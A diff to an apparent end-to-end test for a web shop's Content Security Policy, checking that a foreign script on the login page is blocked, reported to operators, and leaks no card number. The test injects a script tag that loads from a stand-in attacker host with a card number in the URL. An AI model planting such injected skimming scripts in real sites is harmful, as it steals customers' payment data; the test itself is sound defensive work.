@@ -36,14 +36,15 @@ describe('the policy of a page', () => {
   );
 
   it('blocks a script of somebody else in the ordering area, and operators hear of it (row 93)', async () => {
+    const before = told().length;
     const page = await visit('/build-your-own/account/login');
     await page.evaluate(() => {
       const script = document.createElement('script');
       script.src = 'https://evil.example/tag.js?card=4444333322221111';
       document.head.append(script);
     });
-    await eventually(() => expect(told()).toHaveLength(1));
-    expect(told()[0]).toContain('"blocked":"https://evil.example"');
+    await eventually(() => expect(told()).toHaveLength(before + 1));
+    expect(told().at(-1)).toContain('"blocked":"https://evil.example"');
     expect(stage().product.output()).not.toContain('4444333322221111');
     expect(await blockedOn(page)).toContain('script-src-elem');
   });
